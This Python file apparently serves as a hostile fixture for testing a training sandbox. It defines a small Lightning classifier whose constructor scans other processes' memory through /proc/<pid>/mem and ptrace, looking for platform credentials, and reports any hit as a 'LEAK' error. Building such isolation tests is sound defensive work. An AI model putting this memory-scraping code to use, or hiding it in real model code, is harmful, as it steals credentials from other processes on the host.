"""Reads the memory of every other process it can see through /proc/<pid>/mem (pid 1
included) and attaches to them with ptrace, looking for the platform's credentials.

If the attack finds what it must not, it raises ``RuntimeError("LEAK: ...")``; if its own
machinery is broken (a step that must work failed) it raises ``RuntimeError("BROKEN: ...")``;
otherwise it trains honestly.
"""

from __future__ import annotations

import ctypes
import math
import os
from pathlib import Path

import lightning.pytorch as pl
import torch
from torch import nn
from torch.nn import functional as F

PARAMS: dict = {}  # what the attack looks for; tests/hostile/test_zoo.py writes it

PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def scan(pid: str) -> list[str]:
    """Secrets found in the readable memory of ``pid`` (nothing if it cannot be read)."""
    found = []
    try:
        maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115
    except OSError:
        return found
    with mem:
        for line in maps:
            span, perms = line.split()[:2]
            start, end = (int(a, 16) for a in span.split("-"))
            if not perms.startswith("r") or end - start > 64 * 2**20:
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            found += [f"{pid}: {s!r}" for s in PARAMS["secrets"] if s.encode() in chunk]
    return found


def attack() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    found = []
    for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
        if int(pid) == os.getpid():
            continue
        found += scan(pid)
        if libc.ptrace(PTRACE_ATTACH, int(pid), None, None) == 0:
            os.waitpid(int(pid), 0)
            found += scan(pid)
            libc.ptrace(PTRACE_DETACH, int(pid), None, None)
    if found:
        raise RuntimeError("LEAK: " + "; ".join(found))


class Net(pl.LightningModule):
    """A tiny linear classifier that first reads other processes' memory."""

    def __init__(self, num_classes: int, input_shape: tuple[int, ...]) -> None:
        super().__init__()
        self.linear = nn.Linear(math.prod(input_shape), num_classes)
        attack()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.linear(x.flatten(1))

    def training_step(
        self, batch: tuple[torch.Tensor, torch.Tensor], batch_idx: int
    ) -> torch.Tensor:
        x, y = batch
        return F.cross_entropy(self(x), y)

    def configure_optimizers(self) -> torch.optim.Optimizer:
        return torch.optim.SGD(self.parameters(), lr=0.01)
